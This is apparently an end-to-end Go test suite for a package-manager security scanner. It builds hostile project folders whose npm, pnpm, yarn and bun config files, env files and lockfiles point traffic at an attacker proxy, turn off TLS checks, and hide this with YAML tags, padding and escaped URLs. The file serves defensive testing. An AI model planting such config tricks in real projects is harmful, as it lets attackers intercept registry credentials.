package e2e

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/sandglass-dev/sandglass/internal/domain/hostile"
	"github.com/sandglass-dev/sandglass/internal/testkit/clients"
	"github.com/sandglass-dev/sandglass/internal/testkit/recorder"
)

// deepCase is a folder that hides from the scanner, or from the seal, what the folder of its number does. Those
// clients give the session away in it by the variable's name alone, and none does by what the hook gives.
type deepCase struct {
	name    string
	clients string
	direct  bool // without the user's proxy in the environment
	files   project
}

func (d deepCase) run(t *testing.T) {
	for _, m := range managers {
		if !strings.Contains(" "+d.clients+" ", " "+m.name+" ") {
			continue
		}
		t.Run(d.name+"/"+m.name, func(t *testing.T) {
			t.Parallel()
			c := clients.Need(t, m.name)
			for _, how := range []mode{guarded, sealed} {
				v := newVictim(t, c, how, true)
				v.direct = d.direct
				files := d.files(v)
				said := v.install(t, c, m.args, files)
				leaks := append(v.attacker.Canary(canary), inTheClear(v)...)
				switch {
				case how == sealed && len(leaks) > 0:
					t.Errorf("%s gave the credential away: %s %s\n%s", m.name, leaks[0].Method, leaks[0].Host, tail(said))
				case how == guarded && len(leaks) == 0:
					t.Errorf("the case proves nothing\n%s", tail(said))
				}
				if worst := hostile.Worst(scanned(files, v.known)); worst != hostile.High {
					t.Errorf("the scanner says %q", worst)
				}
			}
		})
	}
}

// inTheClear are the requests that the user's own proxy could read though the registry is one by https.
func inTheClear(v *victim) []recorder.Request { return v.own.Canary(canary) }

func runDeep(t *testing.T, cases ...deepCase) {
	for _, d := range cases {
		d.run(t)
	}
}

// between are npm's settings that put the attacker between client and registry, each behind a prefix.
func between(v *victim, prefix string) string {
	at := strings.TrimSuffix(v.attacker.URL, "/")
	return prefix + "proxy=" + at + "\n" + prefix + "https-proxy=" + at + "\n" + prefix + "noproxy=none.example.com\n" + prefix + "strict-ssl=false\n"
}

// betweenYAML is the same for pnpm and yarn, with a tag in front of the values.
func betweenYAML(v *victim, textTag, truthTag, strict string) string {
	at := textTag + strings.TrimSuffix(v.attacker.URL, "/")
	return "httpProxy: " + at + "\nhttpsProxy: " + at + "\n" + strict + ": " + truthTag + "false\n"
}

func dotEnv(name string) project {
	return func(v *victim) map[string]string {
		at := strings.TrimSuffix(v.attacker.URL, "/")
		return map[string]string{name: "HTTPS_PROXY=" + at + "\nHTTP_PROXY=" + at + "\nNODE_TLS_REJECT_UNAUTHORIZED=0\n"}
	}
}

// A05: env files that bun loads put a proxy in between.
func TestA05_EnvFiles(t *testing.T) {
	for _, name := range []string{".env", ".env.local", ".env.production", ".env.production.local"} {
		deepCase{strings.TrimPrefix(name, "."), "bun", true, dotEnv(name)}.run(t)
	}
}

// A07: another global file brings the proxy, which the scanner does not see there.
func TestA07_ProxyInGlobalConfig(t *testing.T) {
	runDeep(t,
		deepCase{"globalconfig", "npm10 npm11 npm12", false, func(v *victim) map[string]string {
			return map[string]string{".npmrc": "globalconfig=./g\n", "g": between(v, "")}
		}},
		deepCase{"prefix", "npm10 npm11 npm12", false, func(v *victim) map[string]string {
			return map[string]string{".npmrc": "prefix=./p\n", "p/etc/npmrc": between(v, "")}
		}},
	)
}

// A08: the proxy and the check of certificates are spelled so that they are hard to see, or stand where they beat
// the environment.
func TestA08_Hidden(t *testing.T) {
	padding := strings.Repeat("# padding padding padding padding padding\n", 30_000)
	runDeep(t,
		deepCase{"variable in keys", "npm11 npm12 pnpm11 pnpm12", false, func(v *victim) map[string]string {
			return map[string]string{".npmrc": between(v, "${NOPE?}")}
		}},
		deepCase{"tags", "pnpm10 pnpm11 pnpm12", false, func(v *victim) map[string]string {
			return map[string]string{"pnpm-workspace.yaml": "packages: ['.']\n" + betweenYAML(v, "!!str ", "!!bool ", "strictSsl")}
		}},
		deepCase{"tags", "yarn4", false, func(v *victim) map[string]string {
			return map[string]string{".yarnrc.yml": betweenYAML(v, "!!str ", "!!str ", "enableStrictSsl")}
		}},
		deepCase{"merged", "pnpm10 pnpm11", false, func(v *victim) map[string]string {
			text := betweenYAML(v, "", "", "strictSsl")
			return map[string]string{"pnpm-workspace.yaml": "packages: ['.']\n<<:\n  " + strings.ReplaceAll(strings.TrimSpace(text), "\n", "\n  ") + "\n"}
		}},
		deepCase{"long", "pnpm11 pnpm12", false, func(v *victim) map[string]string {
			return map[string]string{"pnpm-workspace.yaml": "packages: ['.']\n" + betweenYAML(v, "", "", "strictSsl") + padding}
		}},
		deepCase{"long", "yarn4", false, func(v *victim) map[string]string {
			return map[string]string{".yarnrc.yml": betweenYAML(v, "", "", "enableStrictSsl") + padding}
		}},
		deepCase{"by host", "yarn4", false, func(v *victim) map[string]string {
			return map[string]string{".yarnrc.yml": "networkSettings:\n  \"*.example.com\":\n    httpsProxy: " + strings.TrimSuffix(v.attacker.URL, "/") + "\n    httpsCaFilePath: ./ca.pem\n", "ca.pem": v.attacker.CA()}
		}},
		deepCase{"value below", "yarn4", false, func(v *victim) map[string]string {
			at := strings.TrimSuffix(v.attacker.URL, "/")
			return map[string]string{".yarnrc.yml": "httpsProxy: {onConflict: reset, value: \"" + at + "\"}\nenableStrictSsl: {onConflict: reset, value: false}\n"}
		}},
	)
}

// A23: what a package is fetched from leads to the registry in the clear, and the scanner is to see it however it
// is written. The user's own proxy is the way on which it can be read.
func TestA23_FetchedInTheClear(t *testing.T) {
	const at = "http://" + farHost + "/@acme/private/-/private-1.0.0.tgz"
	folder := func(dependency string, more map[string]string) project {
		return func(*victim) map[string]string {
			text, _ := json.Marshal(map[string]any{"name": "x", "version": "1.0.0", "dependencies": map[string]string{"@acme/private": dependency}})
			files := map[string]string{"package.json": string(text), ".npmrc": greedy}
			for name, text := range more {
				files[name] = text
			}
			return files
		}
	}
	lock := func(resolved string) map[string]string {
		return map[string]string{"package-lock.json": `{"name":"x","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"x","version":"1.0.0",` +
			`"dependencies":{"@acme/private":"1.0.0"}},"node_modules/@acme/private":{"version":"1.0.0","resolved":` + resolved + `}}}`}
	}
	for _, c := range []struct {
		name  string
		files project
	}{
		{"dependency", folder(at, nil)},
		{"in capitals", folder(strings.Replace(at, "http", "HTTP", 1), nil)},
		{"escaped", folder("1.0.0", lock(`"\u0068ttp`+at[4:]+`"`))},
		{"on the next line", folder("1.0.0", lock("\n\""+at+`"`))},
		{"pnpm as JSON", folder("1.0.0", map[string]string{"pnpm-lock.yaml": "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\nimporters:\n\n  .:\n    dependencies:\n" +
			"      '@acme/private':\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n\n  '@acme/private@1.0.0':\n    resolution: {\"integrity\": \"" + recorder.Integrity("@acme/private") + "\", \"tarball\": \"" + at + "\"}\n\nsnapshots:\n\n  '@acme/private@1.0.0': {}\n"})},
	} {
		for _, m := range managers {
			t.Run(c.name+"/"+m.name, func(t *testing.T) {
				t.Parallel()
				client := clients.Need(t, m.name)
				v := newVictim(t, client, sealed, true)
				files := c.files(v)
				said := v.install(t, client, m.args, files)
				if len(v.own.Canary(canary))+len(v.attacker.Canary(canary)) > 0 {
					t.Errorf("a leak\n%s", tail(said))
				}
				if worst := hostile.Worst(scanned(files, v.known)); worst != hostile.High {
					t.Errorf("the scanner says %q", worst)
				}
			})
		}
	}
}
